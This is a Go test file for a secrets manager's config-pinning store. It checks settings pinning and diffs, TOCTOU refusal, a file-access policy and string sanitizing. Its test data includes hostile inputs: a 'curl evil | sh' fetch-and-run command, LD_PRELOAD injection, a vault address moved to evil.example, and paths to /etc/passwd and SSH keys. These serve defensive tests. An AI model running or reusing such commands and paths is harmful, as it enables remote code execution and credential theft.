package store

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/hush-secrets/hush/crypt"
)

const baseYAML = `version: 1
id: 0123456789abcdef0123456789abcdef
project: demo
default_env: dev
environments:
  dev:
    recipients:
      - key: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p
        label: alice
`

func mustSettings(t *testing.T, y string) map[string]string {
	t.Helper()
	c, err := ParseConfig([]byte(y))
	if err != nil {
		t.Fatal(err)
	}
	s, err := c.Settings()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestSettingsCanonical(t *testing.T) {
	t.Parallel()
	block := mustSettings(t, baseYAML+"vault:\n  address: https://vault.example\n  auth:\n    method: jwt\n    token_file: ci/jwt\n")
	flow := mustSettings(t, baseYAML+"vault: {auth: {token_file: \"ci/jwt\", method: jwt}, 'address': \"https://vault.example\"}\n")
	if !reflect.DeepEqual(block, flow) {
		t.Fatalf("reformatting changed the settings:\n%v\n%v", block, flow)
	}
	moved := mustSettings(t, baseYAML+"vault: {address: \"http://evil.example\", auth: {method: jwt, token_file: ci/jwt}}\n")
	d := diffSettings(block, moved)
	if len(d) != 1 || d[0].Key != "vault" {
		t.Fatalf("diff = %v, want one change of vault", d)
	}
	leaves := d[0].Leaves()
	if len(leaves) != 1 || leaves[0].String() != `vault.address: "https://vault.example" -> "http://evil.example"` {
		t.Fatalf("leaves = %v", leaves)
	}
}

// TestSettingsPinByDefault: every field of Config, and any section this
// hush does not know, is pinned unless it is on the inert list.
func TestSettingsPinByDefault(t *testing.T) {
	t.Parallel()
	y := baseYAML + `allow_inject: [LD_PRELOAD]
ssh_identities: true
rotation: {default: 30d}
vault: {address: "https://v"}
sops: {targets: [{path: secrets.enc.yaml}]}
future_thing: {run: "curl evil | sh"}
`
	s := mustSettings(t, y)
	for _, k := range []string{"id", "project", "default_env", "allow_inject", "ssh_identities", "vault", "sops", "future_thing"} {
		if s[k] == "" {
			t.Errorf("%s is not pinned: %v", k, s)
		}
	}
	for k := range inertSettings {
		if _, ok := s[k]; ok {
			t.Errorf("inert %s is pinned", k)
		}
	}
	// Every yaml field of Config is inert or pinned: a new field someone
	// adds is pinned without a list to update.
	typ := reflect.TypeOf(Config{})
	for i := 0; i < typ.NumField(); i++ {
		name, opts, _ := strings.Cut(typ.Field(i).Tag.Get("yaml"), ",")
		if opts == "inline" {
			continue
		}
		if _, inert := inertSettings[name]; inert {
			continue
		}
		if _, ok := s[name]; !ok {
			t.Errorf("Config field %s (%s) is neither inert nor pinned", typ.Field(i).Name, name)
		}
	}
	// An unknown field of an environment is pinned too.
	e := mustSettings(t, strings.Replace(baseYAML, "  dev:\n", "  dev:\n    hook: ./deploy.sh\n", 1))
	if e["environments.dev.hook"] != `"./deploy.sh"` {
		t.Errorf("environment extra not pinned: %v", e)
	}
	// Writing a default out explicitly is not a change.
	if !reflect.DeepEqual(mustSettings(t, baseYAML), mustSettings(t, baseYAML+"allow_inject: []\nssh_identities: false\n")) {
		t.Error("explicit empty defaults changed the settings")
	}
}

func writeYAML(t *testing.T, p *Project, y string) {
	t.Helper()
	if err := os.WriteFile(p.ConfigPath(), []byte(y), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := p.ReloadConfig(); err != nil {
		t.Fatal(err)
	}
}

// TestAcknowledgePinsWhatWasShown: a hush.yaml that changes between the
// prompt and the pin is refused and nothing is pinned (TOCTOU).
func TestAcknowledgePinsWhatWasShown(t *testing.T) {
	t.Parallel()
	p, _ := newProject(t)
	if _, err := p.Register(time.Now()); err != nil {
		t.Fatal(err)
	}
	orig := string(p.Raw())
	shown := orig + "vault: {address: \"https://vault.example\"}\n"
	writeYAML(t, p, shown)
	var se *SettingsError
	if err := p.CheckSettings("vault"); !errors.As(err, &se) || !errors.Is(err, ErrConflict) {
		t.Fatalf("CheckSettings = %v, want a SettingsError", err)
	}
	pd, err := p.Pending()
	if err != nil || len(pd.Settings) != 1 {
		t.Fatalf("Pending = %+v, %v", pd, err)
	}
	// Between the prompt and the pin, the file changes.
	if err := os.WriteFile(p.ConfigPath(), []byte(orig+"vault: {address: \"http://evil.example\"}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := p.Acknowledge([]byte(shown), nil); !errors.Is(err, ErrChangedSinceShown) {
		t.Fatalf("Acknowledge = %v, want ErrChangedSinceShown", err)
	}
	if v, _, _ := p.PinnedSetting("vault"); v != "" {
		t.Fatalf("vault pinned as %s after a refused acknowledgement", v)
	}
	// What was shown, unchanged, is pinned exactly.
	writeYAML(t, p, shown)
	if err := p.Acknowledge(p.Raw(), nil); err != nil {
		t.Fatal(err)
	}
	if err := p.CheckSettings("vault"); err != nil {
		t.Fatal(err)
	}
	if v, _, _ := p.PinnedSetting("vault"); v != `{"address":"https://vault.example"}` {
		t.Fatalf("vault pinned as %s", v)
	}
}

// TestRegistryKeysByID: two projects with one name share nothing; a
// changed id keeps the checkout's data where it was; a second checkout of
// an id starts from its pins but has its own personal directory.
func TestRegistryKeysByID(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	mk := func(id string) *Project {
		root := t.TempDir()
		p, err := Create(root, data, &Config{Version: ConfigVersion, ID: id, Project: "api", Environments: map[string]*EnvConfig{}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := p.Register(time.Now()); err != nil {
			t.Fatal(err)
		}
		return p
	}
	a := mk("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
	b := mk("bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb")
	if a.PersonalDir() == b.PersonalDir() {
		t.Fatalf("two projects named api share %s", a.PersonalDir())
	}
	// A pushed id change: the checkout stays keyed where it was.
	writeYAML(t, a, strings.Replace(string(a.Raw()), "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "cccccccccccccccccccccccccccccccc", 1))
	again, err := Open(a.Root, data)
	if err != nil {
		t.Fatal(err)
	}
	if again.PersonalDir() != filepath.Join(data, "projects", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa") {
		t.Fatalf("after an id change the data moved to %s", again.PersonalDir())
	}
	if err := again.CheckSettings("id"); err == nil {
		t.Fatal("an id change was not refused")
	}
	// A second checkout of b's id.
	b2 := mk("bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb")
	if b2.Linked() || b2.PersonalDir() == b.PersonalDir() {
		t.Fatalf("second checkout linked to %s", b2.PersonalDir())
	}
	if _, err := os.Stat(filepath.Join(b2.PersonalDir(), pinName)); err != nil {
		t.Fatalf("second checkout has no pins: %v", err)
	}
	if _, err := b2.Link(time.Now()); err != nil {
		t.Fatal(err)
	}
	if b2.PersonalDir() != b.PersonalDir() {
		t.Fatalf("linked checkout uses %s, want %s", b2.PersonalDir(), b.PersonalDir())
	}
}

func TestFilePolicy(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	root := filepath.Join(home, "src", "app")
	for _, d := range []string{filepath.Join(root, "ci"), filepath.Join(home, ".ssh"), filepath.Join(home, ".config", "hush")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(home, ".ssh", "id_ed25519"), filepath.Join(root, "jwt")); err != nil {
		t.Fatal(err)
	}
	fp := &FilePolicy{Root: root, Home: home, Protected: []string{filepath.Join(home, ".ssh"), filepath.Join(home, ".config")}}
	for path, ok := range map[string]bool{
		"ci/token":                    true,
		filepath.Join(root, "ci/x"):   true,
		"../outside":                  false,
		"ci/../../outside":            false,
		"/etc/passwd":                 false,
		"~/.ssh/id_ed25519":           false,
		"~/.config/hush/identity.txt": false,
		"jwt":                         false, // a symlink out of the project
	} {
		_, err := fp.Check("vault.auth.token_file", path)
		var re *RepoFileError
		if ok != (err == nil) || !ok && (!errors.As(err, &re) || !errors.Is(err, ErrInvalid)) {
			t.Errorf("Check(%q) = %v, want allowed=%v", path, err, ok)
		}
	}
	// A project in the home directory: ~/.ssh is inside it, still refused.
	inHome := &FilePolicy{Root: home, Home: home, Protected: fp.Protected}
	if _, err := inHome.Check("t", ".ssh/id_ed25519"); err == nil {
		t.Error("~/.ssh allowed for a project rooted at ~")
	}
	// The user's own configuration allows a file, or a directory.
	fp.User = &UserConfig{AllowFiles: []string{"~/.ssh/id_ed25519", "/run/secrets/"}}
	for _, path := range []string{"~/.ssh/id_ed25519", "/run/secrets/vault/jwt"} {
		if _, err := fp.Check("t", path); err != nil {
			t.Errorf("allowed %s refused: %v", path, err)
		}
	}
	if _, err := fp.Check("t", "/run/secretsx"); err == nil {
		t.Error("a directory entry allowed a sibling")
	}
}

func TestPrintable(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"alice":                "alice",
		"zoë":                  "zoë",
		"a\x1b]52;c;ZXZp\x07b": `a\x1b]52;c;ZXZp\ab`,
		"line\rover":           `line\rover`,
		"csi\u009b31m":         `csi\u009b31m`,
		"bidi\u202eevil":       `bidi\u202eevil`,
		"bad\xffutf8":          `bad\xffutf8`,
	} {
		if got := Printable(in); got != want {
			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestOwnChangesPinThemselves: a setting hush itself changes (the default
// environment after env rm) is pinned, but a pending change that arrived
// by pull stays pending through hush's own rewrite of hush.yaml.
func TestOwnChangesPinThemselves(t *testing.T) {
	t.Parallel()
	p, id := newProject(t)
	if _, err := p.Register(time.Now()); err != nil {
		t.Fatal(err)
	}
	writeYAML(t, p, string(p.Raw())+"allow_inject: [LD_PRELOAD]\n")
	if err := p.RemoveEnv(p.Config.DefaultEnv); err != nil {
		t.Fatal(err)
	}
	if err := p.CheckSettings("default_env"); err != nil {
		t.Fatalf("hush's own default change is pending: %v", err)
	}
	if err := p.CheckSettings("allow_inject"); err == nil {
		t.Fatal("a pulled allow_inject was pinned by hush's rewrite of hush.yaml")
	}
	if err := p.CreateEnv("qa", []Recipient{{Key: id.Public, Label: "me"}}, id); err != nil {
		t.Fatal(err)
	}
	if err := p.CheckSettings("allow_inject"); err == nil {
		t.Fatal("a pulled allow_inject was pinned by env creation")
	}
}

// TestInterruptedConfigWriteStaysOwn: a member add killed after hush.yaml
// was written but before its pin is the user's own change, not one "that
// arrived by pull" (the SIGKILL rounds of TestKillWritingCommands); an
// intent whose hush.yaml never landed, or was replaced since, pins nothing.
func TestInterruptedConfigWriteStaysOwn(t *testing.T) {
	t.Parallel()
	other, err := crypt.Generate()
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name        string
		writeConfig bool
		replaced    bool
		wantPending bool
	}{
		{"killed after hush.yaml", true, false, false},
		{"killed before hush.yaml", false, false, false},
		{"hush.yaml replaced since", true, true, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p, _ := newProject(t)
			if _, err := p.Register(time.Now()); err != nil {
				t.Fatal(err)
			}
			before, _ := p.Config.Settings()
			p.Config.Environments["prod"].Recipients = append(p.Config.Environments["prod"].Recipients, Recipient{Key: other.Public, Label: "other"})
			b, err := p.Config.encode()
			if err != nil {
				t.Fatal(err)
			}
			pf, err := p.readPins()
			if err != nil {
				t.Fatal(err)
			}
			if pf.Intent, err = p.intentFor(pf, before, configSum(b), []string{"prod"}); err != nil {
				t.Fatal(err)
			}
			if err := p.writePins(pf); err != nil {
				t.Fatal(err)
			}
			if tc.writeConfig {
				if tc.replaced {
					b = append(b, []byte("# edited by a pull\n")...)
				}
				if err := WriteFileAtomic(p.ConfigPath(), b); err != nil {
					t.Fatal(err)
				}
			}
			// The kill: no pin written after hush.yaml. The next hush:
			if err := p.ReloadConfig(); err != nil {
				t.Fatal(err)
			}
			pe, err := p.PinDiff("prod")
			if err != nil {
				t.Fatal(err)
			}
			if got := pe != nil; got != tc.wantPending {
				t.Fatalf("pending = %v (%v), want %v", got, pe, tc.wantPending)
			}
		})
	}
}

// TestPinsReadAgainUnderLock: the pin file is read once per open project,
// but another process's acknowledgement is seen once this one takes the
// lock, and a setting acknowledged elsewhere is not refused from a stale
// copy after that.
func TestPinsReadAgainUnderLock(t *testing.T) {
	t.Parallel()
	p, _ := newProject(t)
	if _, err := p.Register(time.Now()); err != nil {
		t.Fatal(err)
	}
	shown := string(p.Raw()) + "vault: {address: \"https://vault.example\"}\n"
	writeYAML(t, p, shown)
	if err := p.CheckSettings("vault"); !errors.Is(err, ErrConflict) {
		t.Fatalf("CheckSettings = %v, want a pending change", err)
	}
	other, err := Open(p.Root, p.DataDir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := other.Register(time.Now()); err != nil {
		t.Fatal(err)
	}
	if err := other.Acknowledge(other.Raw(), nil); err != nil {
		t.Fatal(err)
	}
	// Without a lock, reload or write this project answers from what it
	// read; with the lock it reads again.
	if err := p.CheckSettings("vault"); !errors.Is(err, ErrConflict) {
		t.Fatalf("CheckSettings before the lock = %v, want the copy read at first", err)
	}
	l, err := p.Lock()
	if err != nil {
		t.Fatal(err)
	}
	defer l.Unlock()
	if err := p.CheckSettings("vault"); err != nil {
		t.Fatalf("CheckSettings under the lock = %v, want the other process's acknowledgement", err)
	}
}
